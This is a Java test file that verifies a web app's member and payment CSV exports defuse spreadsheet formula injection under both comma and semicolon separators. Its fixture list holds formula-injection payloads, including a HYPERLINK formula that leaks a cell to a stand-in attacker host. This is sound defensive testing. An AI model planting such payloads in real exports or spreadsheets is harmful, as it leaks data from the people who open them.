package com.koomy.api.security;

import com.koomy.api.ApiCalls;
import com.koomy.api.ApiCalls.User;
import com.koomy.api.ApiConfiguration;
import com.koomy.api.ApiTestApp;
import com.koomy.testing.TestDatabase;
import io.dropwizard.testing.junit5.DropwizardAppExtension;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

import java.io.File;
import java.io.IOException;
import java.io.InputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.TimeUnit;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.fail;

/**
 * CSV injection (issue 17): names, emails and payment texts that a spreadsheet would run as formulas go out
 * in the member and payment exports, and the files are opened the way an admin's spreadsheet would: LibreOffice
 * (headless, formulas evaluated) imports each with {@code ,} and with {@code ;} as the separator and saves it
 * as xlsx, and Apache POI reads every cell back. No cell may be a formula. A control file written the old way
 * (unquoted cells) must come back with formulas, so the check is known to see them.
 * LibreOffice is part of the toolchain (ops/koomy ensure_toolchain installs libreoffice-calc-nogui): without
 * it this test fails, it never skips.
 */
class CsvExportSpreadsheetTest {

    /** Cells a spreadsheet would run, or that split differently under another separator. */
    static final List<String> HOSTILE = List.of(
            "x;=1+1;",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "@SUM(1)",
            "+1+1",
            "-1+1",
            "\t=1+1",
            "\r=1+1",
            "a,=1+1",
            "b;@SUM(2)",
            "c\";=3+3;\"",
            "d;\"=4+4\"",
            "e; =5+5",
            "f\n=6+6",
            "g\r\n@SUM(7)",
            "sep=;");

    @RegisterExtension
    static TestDatabase db = new TestDatabase();

    @RegisterExtension
    static DropwizardAppExtension<ApiConfiguration> app = ApiTestApp.on(db);

    private static final HttpClient HTTP = HttpClient.newHttpClient();
    private final ApiCalls api = new ApiCalls(app::getLocalPort);

    @TempDir
    Path dir;

    @Test
    void noCellOfAnExportIsAFormulaWithCommaOrSemicolonAsTheSeparator() throws Exception {
        User owner = api.user("Owner Spreadsheet");
        UUID community = api.community(owner, "Spreadsheet Club", "public", "open");
        db.jdbi().useHandle(h -> {
            int n = 0;
            for (String hostile : HOSTILE) {
                UUID id = UUID.randomUUID();
                n++;
                String email = n % 2 == 0 ? "-" + n + "+1@example.org" : "@sum(" + n + ")@example.org";
                h.execute("INSERT INTO accounts (id, email, name, password_hash) VALUES (?, ?, ?, 'x')", id, email, hostile);
                h.execute("INSERT INTO memberships (community_id, account_id, role) VALUES (?, ?, 'member')", community, id);
                h.execute("""
                        INSERT INTO payments (id, community_id, account_id, description, stripe_account, payment_intent_id,
                                              amount, currency, status, failure_message)
                        VALUES (?, ?, ?, ?, 'acct_spreadsheet', ?, 2500, 'eur', 'failed', ?)
                        """, UUID.randomUUID(), community, id, hostile, "pi_" + UUID.randomUUID(), hostile);
            }
        });

        Path members = download("/api/communities/" + community + "/members/export.csv", owner, "members.csv");
        Path payments = download("/api/communities/" + community + "/payments/export.csv", owner, "payments.csv");
        for (Path csv : List.of(members, payments)) {
            String text = Files.readString(csv, StandardCharsets.UTF_8);
            assertThat(text).doesNotStartWith("sep=").doesNotContain("\nsep=").doesNotContain("\r\nsep=");
            for (String hostile : HOSTILE) {
                assertThat(text).as("%s in %s", hostile, csv.getFileName()).contains(com.koomy.csv.Csv.cell(hostile));
            }
        }
        Path control = dir.resolve("control.csv");
        Files.writeString(control, "name,email\r\n=1+1,x;=2+2\r\n", StandardCharsets.UTF_8);

        for (int separator : new int[]{',', ';'}) {
            List<Path> sheets = convert(separator, members, payments, control);
            assertThat(formulas(sheets.get(2))).as("the control file, separator %c", separator).isNotEmpty();
            assertThat(formulas(sheets.get(0))).as("members, separator %c", separator).isEmpty();
            assertThat(formulas(sheets.get(1))).as("payments, separator %c", separator).isEmpty();
            // Nothing was lost: every member is on a row of its own when the separator is the comma.
            if (separator == ',') {
                assertThat(rows(sheets.get(0))).hasSize(1 + 1 + HOSTILE.size());
                assertThat(text(sheets.get(0))).contains("x;'=1+1;", "'@SUM(1)", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
            }
        }
    }

    private Path download(String path, User caller, String name) throws Exception {
        HttpResponse<InputStream> response = HTTP.send(HttpRequest.newBuilder(URI.create("http://localhost:" + app.getLocalPort() + path))
                .header("Authorization", "Bearer " + caller.token()).build(), HttpResponse.BodyHandlers.ofInputStream());
        assertThat(response.statusCode()).isEqualTo(200);
        Path file = dir.resolve(name);
        try (InputStream in = response.body()) {
            Files.copy(in, file);
        }
        return file;
    }

    /** LibreOffice's CSV import (UTF-8, quote ", formulas evaluated) with this separator, saved as xlsx. */
    private List<Path> convert(int separator, Path... csvs) throws Exception {
        String soffice = soffice();
        Path out = Files.createDirectories(dir.resolve("xlsx-" + separator));
        List<String> command = new ArrayList<>(List.of(soffice,
                "-env:UserInstallation=" + dir.resolve("lo-profile").toUri(),
                "--headless", "--norestore", "--convert-to", "xlsx",
                "--infilter=CSV:" + separator + ",34,76,1,,0,false,true,false,false,false,false,true",
                "--outdir", out.toString()));
        for (Path csv : csvs) {
            command.add(csv.toString());
        }
        Process process = new ProcessBuilder(command).redirectErrorStream(true).redirectOutput(dir.resolve("soffice.log").toFile()).start();
        if (!process.waitFor(120, TimeUnit.SECONDS)) {
            process.destroyForcibly();
            fail("soffice did not finish in 120 s");
        }
        List<Path> sheets = new ArrayList<>();
        for (Path csv : csvs) {
            Path sheet = out.resolve(csv.getFileName().toString().replace(".csv", ".xlsx"));
            assertThat(sheet).as("soffice output: %s", Files.readString(dir.resolve("soffice.log"))).exists();
            sheets.add(sheet);
        }
        return sheets;
    }

    private static String soffice() {
        for (String candidate : List.of("/usr/bin/soffice", "/usr/local/bin/soffice", "/usr/lib/libreoffice/program/soffice")) {
            if (new File(candidate).canExecute()) {
                return candidate;
            }
        }
        String path = System.getenv("PATH");
        for (String d : path == null ? new String[0] : path.split(File.pathSeparator)) {
            if (new File(d, "soffice").canExecute()) {
                return new File(d, "soffice").getPath();
            }
        }
        return fail("LibreOffice (soffice) is missing: ops/koomy ensure_toolchain installs libreoffice-calc-nogui");
    }

    private static List<String> formulas(Path xlsx) throws IOException {
        List<String> found = new ArrayList<>();
        forEachCell(xlsx, cell -> {
            if (cell.getCellType() == CellType.FORMULA) {
                found.add(cell.getAddress() + ": " + cell.getCellFormula());
            }
        });
        return found;
    }

    private static String text(Path xlsx) throws IOException {
        StringBuilder all = new StringBuilder();
        forEachCell(xlsx, cell -> all.append(cell.getCellType() == CellType.STRING ? cell.getStringCellValue() : cell.toString()).append('\n'));
        return all.toString();
    }

    private static List<Row> rows(Path xlsx) throws IOException {
        List<Row> rows = new ArrayList<>();
        try (Workbook book = new XSSFWorkbook(xlsx.toFile())) {
            book.getSheetAt(0).forEach(rows::add);
        } catch (org.apache.poi.openxml4j.exceptions.InvalidFormatException e) {
            throw new IOException(e);
        }
        return rows;
    }

    private static void forEachCell(Path xlsx, java.util.function.Consumer<Cell> action) throws IOException {
        try (Workbook book = new XSSFWorkbook(xlsx.toFile())) {
            for (Sheet sheet : book) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        action.accept(cell);
                    }
                }
            }
        } catch (org.apache.poi.openxml4j.exceptions.InvalidFormatException e) {
            throw new IOException(e);
        }
    }
}
